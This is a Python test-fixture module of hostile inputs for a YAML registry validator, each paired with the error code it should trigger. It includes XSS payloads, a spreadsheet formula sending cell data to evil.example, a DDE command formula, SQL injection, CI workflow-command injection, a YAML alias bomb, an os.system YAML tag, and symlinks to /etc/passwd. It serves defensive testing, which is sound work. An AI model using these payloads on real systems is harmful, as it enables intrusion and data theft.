"""What an attacker writes: texts for every field, and files and folders that are none of a register's.

A row is one attack with the codes of the problems it makes; `HARMLESS` is accepted, and `test_shown` shows that it is.
"""

import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.checks.base import FILES, UNIT, WORKSHOP

HARMLESS: frozenset[str] = frozenset()


@dataclass(frozen=True, slots=True)
class Attack:
    """A text, and the code that refuses it in a name; "" where a name may say so."""

    name: str
    text: str
    code: str = ""


BAD = "bad-text"
TEXTS = (
    Attack("script", "<script>window.hit=1</script>", BAD),
    Attack("end_of_title", "</title><script>window.hit=1</script>", BAD),
    Attack("end_of_comment", "--><script>window.hit=1</script><!--", BAD),
    Attack("end_of_cdata", "]]><script>window.hit=1</script>", BAD),
    Attack("image", "<img src=x onerror=window.hit=1>", BAD),
    Attack("drawing", "<svg/onload=window.hit=1>", BAD),
    Attack("references", "&lt;/title&gt;&lt;script&gt;window.hit=1&lt;/script&gt;"),
    Attack("references_twice", "&amp;lt;script&amp;gt;window.hit=1&amp;lt;/script&amp;gt;"),
    Attack("numeric_references", "&#60;script&#62;window.hit=1&#x3c;/script&#x3e;"),
    Attack("out_of_an_attribute", '甲" onmouseover="window.hit=1" autofocus onfocus=\'window.hit=1\' x="'),
    Attack("out_of_a_quotation", "甲' autofocus onfocus='window.hit=1"),
    Attack("out_of_a_literal", "\\u003cscript\\u003ewindow.hit=1\\u003c/script\\u003e'-(window.hit=1)-'"),
    Attack("out_of_a_template", "`${window.hit=1}`{{ 7*7 }}{% raw %}{{ config }}"),
    Attack("javascript_address", "javascript:window.hit=1"),
    Attack("data_address", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4="),
    Attack("markdown", "[甲](javascript:window.hit=1) ![乙](https://evil.example/x.png) **丙** | 丁 | `戊`"),
    Attack("formula", '=HYPERLINK("https://evil.example/?"&A1,"甲")'),
    Attack("command_formula", "=cmd|' /C calc'!A0"),
    Attack("plus", "+1+1"),
    Attack("minus", "-2+3"),
    Attack("at", "@SUM(1+1)"),
    Attack("workflow_command", "::set-env name=PATH::x ::error::y ##vso[task.setvariable]x"),
    Attack("mention", "@ everyone #1 !2 GH-3"),
    Attack("sql", "'); DROP TABLE units; --"),
    Attack("calendar", "甲\\nBEGIN:VEVENT\\nSUMMARY:乙;X=1,2"),
    Attack("line_end", "甲\nBEGIN:VEVENT", BAD),
    Attack("carriage_return", "甲\r\nX-HIT: 1", BAD),
    Attack("lone_carriage_return", "甲\r::set-env name=x::y", BAD),
    Attack("line_separator", "甲\u2028乙", BAD),
    Attack("next_line", "甲\x85乙", BAD),
    Attack("nul", "甲\0乙", BAD),
    Attack("escape", "甲\x1b]0;x\x07\x1b[31m乙", BAD),
    Attack("override", "甲\u202egpj.exe\u202c", BAD),
    Attack("isolate", "\u2067甲\u2069", BAD),
    Attack("mark_of_direction", "甲\u200f乙", BAD),
    Attack("zero_width", "哈尔滨示例\u200b公司", BAD),
    Attack("joiner", "哈尔滨示例\u200d公司", BAD),
    Attack("word_joiner", "哈尔滨示例\u2060公司", BAD),
    Attack("soft_hyphen", "哈尔滨示例\u00ad公司", BAD),
    Attack("filler", "哈尔滨\u3164示例", BAD),
    Attack("tags", "甲\U000e0041\U000e0042", BAD),
    Attack("mark_of_order", "甲\ufeff乙", BAD),
    Attack("no_character", "甲\uffff乙", BAD),
    Attack("homograph", "Нarbin Ехаmрlе 示例公司"),
    Attack("other_width", "ｊａｖａｓｃｒｉｐｔ：ｈｉｔ 〈script〉"),
    Attack("many_marks", "甲" + "\u0301" * 2_000),
    Attack("from_the_right", "شركة مثال العربية 123"),
    Attack("faces", "👩🏽🏭" * 20),
    Attack("100_kilobytes", "示" * 34_000),
    Attack("one_long_word", "a" * 100_000),
)

# Addresses, each refused as bad-url or bad-text but for the last ones.
ADDRESSES = (
    Attack("javascript", "javascript:window.hit=1", "bad-url"),
    Attack("javascript_in_capitals", "JaVaScRiPt:window.hit=1", "bad-url"),
    Attack("javascript_with_slashes", "javascript://example.cn/%0awindow.hit=1", "bad-url"),
    Attack("javascript_with_a_tab", "java\tscript:window.hit=1", "bad-url"),
    Attack("javascript_with_a_line_end", "java\nscript:window.hit=1", "bad-url"),
    Attack("data", "data:text/html,<script>window.hit=1</script>", "bad-url"),
    Attack("vbscript", "vbscript:msgbox(1)", "bad-url"),
    Attack("file", "file:///etc/passwd", "bad-url"),
    Attack("no_scheme", "//evil.example/x", "bad-url"),
    Attack("relative", "../../admin", "bad-url"),
    Attack("quotation_mark", 'https://a.example/"onmouseover="window.hit=1', "bad-url"),
    Attack("apostrophe", "https://a.example/'onmouseover='window.hit=1", "bad-url"),
    Attack("markup", "https://a.example/<script>", "bad-url"),
    Attack("blank", "https://a.example/ onclick=window.hit=1", "bad-url"),
    Attack("account", "https://info@evil.example/", "bad-url"),
    Attack("backslash", "https:\\\\evil.example\\x", "bad-url"),
    Attack("bracket", "http://[::1", "bad-url"),
    Attack("port", "http://a.example:99999999/", "bad-url"),
    Attack("override", "https://a.example/\u202egpj.exe", BAD),
    Attack("zero_width", "https://a\u200b.example/", BAD),
    Attack("homograph", "https://www.gоv.example/"),
    Attack("other_script", "https://示例.example/?a=1&b=[x](y)|z~*_".replace("|", "%7C")),
    Attack("markdown", "https://a.example/)[x](https://evil.example/"),
    Attack("100_kilobytes", "https://a.example/" + "a" * 100_000),
)


def quoted(text: str) -> str:
    """Return a text as YAML has it in double quotes: whatever it holds, the file itself is plain text."""
    signs = []
    for sign in text:
        if sign in '"\\':
            signs.append("\\" + sign)
        elif sign.isprintable() or sign == "\u3000":
            signs.append(sign)
        else:
            code = ord(sign)
            signs.append(f"\\u{code:04x}" if code < 0x10000 else f"\\U{code:08x}")
    return '"' + "".join(signs) + '"'


@dataclass(frozen=True, slots=True)
class Tree:
    """What is done to the folder of a small registry, the codes it is refused with, and the path that is named.

    `path` is the end of the path that every problem names, so that a reader knows which file is meant.
    """

    name: str
    do: Callable[[Path], object]
    codes: frozenset[str]
    path: str = UNIT


def wrote(path: str | bytes, content: bytes | str) -> Callable[[Path], object]:
    """Return what writes a file."""

    def do(root: Path) -> None:
        place = root / os.fsdecode(path)
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_bytes(content.encode() if isinstance(content, str) else content)

    return do


def linked(path: str, target: str) -> Callable[[Path], object]:
    """Return what puts a symbolic link in the place of a file."""

    def do(root: Path) -> None:
        (root / path).unlink(missing_ok=True)
        (root / path).symlink_to(target)

    return do


def _deep(root: Path) -> None:
    """Folders so deep that no path reaches the end, and that recursion breaks."""
    above = os.open(root / "factories", os.O_RDONLY)
    for _ in range(1_100):
        os.mkdir("a", dir_fd=above)
        below = os.open("a", os.O_RDONLY, dir_fd=above)
        os.close(above)
        above = below
    os.close(os.open("x.yml", os.O_CREAT | os.O_WRONLY, dir_fd=above))
    os.close(above)


def _sparse(root: Path) -> None:
    with (root / UNIT).open("wb") as file:
        file.truncate(64 << 30)


def _pipe(root: Path) -> None:
    (root / UNIT).unlink()
    os.mkfifo(root / UNIT)


_TITLE = "  - {title: 先进级数字化车间, document: 黑示例发〔2025〕88号}\n"
_BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{below}: &{below} [{','.join(['*' + above] * 9)}]\n"
    for above, below in zip("abcdefgh", "bcdefghi", strict=True)
)


def _unit(content: bytes | str) -> Callable[[Path], object]:
    return wrote(UNIT, content)


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


STRAY = _codes("stray-file")
NEW = "factories/230100/2301-0009.yml"
TREES = (
    Tree("bomb_of_aliases", _unit(_BOMB), _codes("yaml-feature")),
    Tree("alias_of_itself", _unit("name: &a [*a]\n"), _codes("yaml-feature")),
    Tree("merge_key", _unit("base: &b {name: x}\n<<: *b\n"), _codes("yaml-feature")),
    Tree("tag_that_runs_code", _unit("!!python/object/apply:os.system [id]\n"), _codes("yaml-feature")),
    Tree("utf_16", _unit(WORKSHOP.encode("utf-16")), _codes("file-encoding")),
    Tree("utf_16_without_mark", _unit("name: a\n".encode("utf-16-be")), _codes(BAD)),
    Tree("utf_32", _unit(WORKSHOP.encode("utf-32")), _codes("file-encoding")),
    Tree("utf_7", _unit(b"name: +ADw-script+AD4-\n"), _codes("missing-field")),
    Tree("overlong_utf_8", _unit(b"name: \xc0\xbcscript\xc0\xbe\n"), _codes("file-encoding")),
    Tree("surrogates_in_utf_8", _unit(b"name: \xed\xa0\xbc\n"), _codes("file-encoding")),
    Tree("nul", _unit(WORKSHOP.replace("香", "\0")), _codes(BAD)),
    Tree("only_controls", _unit(b"\x01\n" * 40_000), _codes(BAD)),
    Tree("crlf_and_mark_of_order", _unit("\ufeff" + WORKSHOP.replace("\n", "\r\n")), HARMLESS),
    Tree("10000_titles", _unit(WORKSHOP + _TITLE * 10_000), _codes("file-too-large")),
    Tree("titles_to_the_limit", _unit(WORKSHOP + _TITLE * 3_200), HARMLESS),
    Tree("phone_numbers_to_the_limit", _unit("- 13800138000\n" * 10_000), _codes("wrong-type")),
    Tree("phone_numbers_in_fields", _unit("".join(f"a{n}: 13800138000\n" for n in range(7_000))), _codes("personal-data", "unknown-field", "missing-field")),
    Tree("fields_to_the_limit", _unit("".join(f"k{n}: 1\n" for n in range(8_000))), _codes("unknown-field", "missing-field")),
    Tree("blanks_in_a_number", _unit(WORKSHOP.replace("黑示例发", '"黑示例发' + " " * 200_000).replace("88号}", '88号"}')), _codes("bad-number")),
    Tree("field_names_that_look_like_paths", _unit(WORKSHOP + "titles[0].title: x\n? a.b[1]\n: x\n"), _codes("unknown-field")),
    Tree("link_out_of_the_tree", linked(NEW, "/etc/passwd"), STRAY, NEW),
    Tree("link_in_place_of_the_policy", linked("policy.yml", "/etc/passwd"), STRAY, "policy.yml"),
    Tree("link_to_endless_zeros", linked("policy.yml", "/dev/zero"), STRAY, "policy.yml"),
    Tree("link_to_itself", linked("scenes.yml", "scenes.yml"), STRAY, "scenes.yml"),
    Tree("linked_folder", linked("factories/230199", "/etc"), STRAY, "factories/230199"),
    Tree("pipe", _pipe, STRAY),
    Tree("64_gibibytes", _sparse, _codes("file-too-large")),
    Tree("folders_without_end", _deep, STRAY, "factories/a/a/a/a/a/a/a/a/a/a"),
    Tree("twin_by_case", wrote("documents/hlj/2025-88A.yml", "number: x\n"), _codes("bad-id"), "documents/hlj/2025-88A.yml"),
    Tree("twin_folder_by_case", wrote("documents/HLJ/2025-88.yml", FILES["documents/hlj/2025-88.yml"]), STRAY, "documents/HLJ/2025-88.yml"),
    Tree("twin_ending_by_case", wrote("factories/230100/2301-0001.YML", WORKSHOP), STRAY, "factories/230100/2301-0001.YML"),
    Tree("digits_of_another_script", wrote("factories/230100/2301-０００１.yml", WORKSHOP), _codes("bad-id"), "2301-０００１.yml"),
    Tree("number_of_255_bytes", wrote(f"factories/230100/2301-{'9' * 246}.yml", WORKSHOP), _codes("bad-id"), f"2301-{'9' * 246}.yml"),
    Tree("name_of_255_bytes", wrote(f"documents/hlj/{'a' * 251}.yml", "number: x\n"), _codes("bad-id"), f"{'a' * 251}.yml"),
    Tree("name_with_a_line_end", wrote("factories/230100/a\n::set-env name=x::y\n.yml", "x"), _codes("bad-id"), "factories/230100/a\\u000a::set-env name=x::y\\u000a.yml"),
    Tree("name_with_an_escape", wrote("factories/230100/\x1b[31m.yml", "x"), _codes("bad-id"), "factories/230100/\\u001b[31m.yml"),
    Tree("name_with_an_override", wrote("factories/230100/\u202elmy.txt", "x"), STRAY, "factories/230100/\\u202elmy.txt"),
    Tree("name_that_is_no_text", wrote(b"factories/230100/\xff\xfe.yml", "x"), _codes("bad-id"), "factories/230100/\\udcff\\udcfe.yml"),
    Tree("name_that_is_markup", wrote("factories/230100/<img src=x onerror=alert(1)>.yml", "x"), _codes("bad-id"), "<img src=x onerror=alert(1)>.yml"),
    Tree("name_that_mentions", wrote("factories/@everyone/2301-0001.yml", "x"), STRAY, "factories/@everyone/2301-0001.yml"),
)  # fmt: skip
